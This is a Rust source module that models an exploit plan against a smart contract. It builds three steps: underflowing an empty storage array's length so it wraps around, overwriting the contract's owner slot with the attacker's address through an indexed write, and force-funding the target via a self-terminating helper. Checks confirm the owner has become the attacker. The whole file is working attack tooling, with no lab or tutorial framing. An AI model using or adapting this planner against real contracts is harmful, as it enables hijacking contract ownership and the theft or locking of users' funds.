//! Exploit plan model.
//!
//! A plan is built once per target from the static layout and never touches the network.
//! Each step carries the checks the orchestrator evaluates against a fresh snapshot right
//! before submission (`preconditions`) and right after confirmation (`postconditions`).

use crate::error::Result;
use crate::ledger::{TargetSnapshot, TxIntent};
use crate::solver::abi;
use crate::solver::funding::ForcedFundingPlanner;
use crate::solver::underflow::{owner_payload, UnderflowPlanner};
use crate::storage::layout::names;
use crate::storage::{Slot, StorageLayout, TitleEncoding};
use alloy::primitives::{Address, Bytes, U256};
use serde::{Deserialize, Serialize};

/// A predicate over target state. Relative checks compare against the pre-step snapshot.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "check", rename_all = "camelCase")]
pub enum Condition {
    ArrayLengthEquals { length: U256 },
    ArrayLengthExceeds { index: U256 },
    OwnerIsNot { account: Address },
    OwnerEquals { account: Address },
    BalanceIncreasedBy { amount: U256 },
}

impl Condition {
    pub fn holds(&self, baseline: &TargetSnapshot, current: &TargetSnapshot) -> bool {
        match self {
            Self::ArrayLengthEquals { length } => current.array_length == Some(*length),
            Self::ArrayLengthExceeds { index } => {
                current.array_length.is_some_and(|len| len > *index)
            }
            Self::OwnerIsNot { account } => current.owner_address != *account,
            Self::OwnerEquals { account } => current.owner_address == *account,
            Self::BalanceIncreasedBy { amount } => {
                baseline.balance_wei.checked_add(*amount) == Some(current.balance_wei)
            }
        }
    }

    pub fn describe(&self) -> String {
        match self {
            Self::ArrayLengthEquals { length } => format!("array length == {length:#x}"),
            Self::ArrayLengthExceeds { index } => format!("array length > {index:#x}"),
            Self::OwnerIsNot { account } => format!("owner != {account:#x}"),
            Self::OwnerEquals { account } => format!("owner == {account:#x}"),
            Self::BalanceIncreasedBy { amount } => format!("balance increased by {amount} wei"),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "action", rename_all = "camelCase")]
pub enum StepAction {
    /// Decrement an empty array's length so it wraps to 2^256 - 1.
    #[serde(rename_all = "camelCase")]
    UnderflowArrayLength {
        array: String,
        length_slot: Slot,
        retract_index: U256,
    },
    /// Indexed write whose element slot lands on `target_slot`.
    #[serde(rename_all = "camelCase")]
    OverwriteSlot {
        array: String,
        index: Slot,
        target_slot: Slot,
        payload: Bytes,
        note: String,
    },
    /// Credit the target through a self-terminating helper.
    ForceFund { value: U256 },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Step {
    pub label: String,
    pub target: Address,
    pub action: StepAction,
    pub preconditions: Vec<Condition>,
    pub postconditions: Vec<Condition>,
}

impl Step {
    pub fn value(&self) -> U256 {
        match &self.action {
            StepAction::ForceFund { value } => *value,
            _ => U256::ZERO,
        }
    }

    /// Direct call against the target. `None` for steps delegated to a value forwarder.
    pub fn call_intent(&self) -> Option<TxIntent> {
        let input: Bytes = match &self.action {
            StepAction::UnderflowArrayLength { retract_index, .. } => {
                abi::retract_entry_calldata(*retract_index)
            }
            StepAction::OverwriteSlot {
                index,
                payload,
                note,
                ..
            } => abi::edit_entry_calldata(index.as_u256(), payload, note.as_bytes()),
            StepAction::ForceFund { .. } => return None,
        };
        Some(TxIntent::call(self.target, input, U256::ZERO))
    }

    pub fn kind(&self) -> &'static str {
        match self.action {
            StepAction::UnderflowArrayLength { .. } => "underflow_array_length",
            StepAction::OverwriteSlot { .. } => "overwrite_slot",
            StepAction::ForceFund { .. } => "force_fund",
        }
    }
}

/// Inputs for [`ExploitPlan::build`].
#[derive(Debug, Clone)]
pub struct PlanConfig {
    pub target: Address,
    pub attacker: Address,
    pub array: String,
    pub overwrite_variable: String,
    pub minimum_balance: U256,
    pub funding_margin_bps: u64,
    /// How the target stores an element write; decides the title bytes.
    pub title_encoding: TitleEncoding,
    pub note: String,
}

impl PlanConfig {
    pub fn for_default_target(target: Address, attacker: Address, minimum_balance: U256) -> Self {
        Self {
            target,
            attacker,
            array: names::ENTRIES.to_string(),
            overwrite_variable: names::OWNER.to_string(),
            minimum_balance,
            funding_margin_bps: crate::solver::funding::DEFAULT_FUNDING_MARGIN_BPS,
            title_encoding: TitleEncoding::default(),
            note: "slot_forge".to_string(),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ExploitPlan {
    pub target: Address,
    pub attacker: Address,
    pub length_slot: Slot,
    pub minimum_balance: U256,
    pub steps: Vec<Step>,
}

impl ExploitPlan {
    /// Underflow the array, overwrite the chosen variable through it, then force-fund.
    pub fn build(layout: &StorageLayout, config: &PlanConfig) -> Result<Self> {
        let underflow = UnderflowPlanner::new(layout);
        let solution = underflow.solve_for_variable(&config.array, &config.overwrite_variable)?;
        let position = layout.slot_position(&config.overwrite_variable)?;
        let payload = owner_payload(&position, config.attacker, config.title_encoding)?;
        let [retract, overwrite] = underflow.build_steps(
            &solution,
            config.target,
            config.attacker,
            payload,
            &config.note,
        );

        let funding = ForcedFundingPlanner::new(config.funding_margin_bps)
            .build_funding_step(config.target, config.minimum_balance)?;

        Ok(Self {
            target: config.target,
            attacker: config.attacker,
            length_slot: solution.length_slot,
            minimum_balance: config.minimum_balance,
            steps: vec![retract, overwrite, funding],
        })
    }

    pub fn to_json_pretty(&self) -> serde_json::Result<String> {
        serde_json::to_string_pretty(self)
    }
}
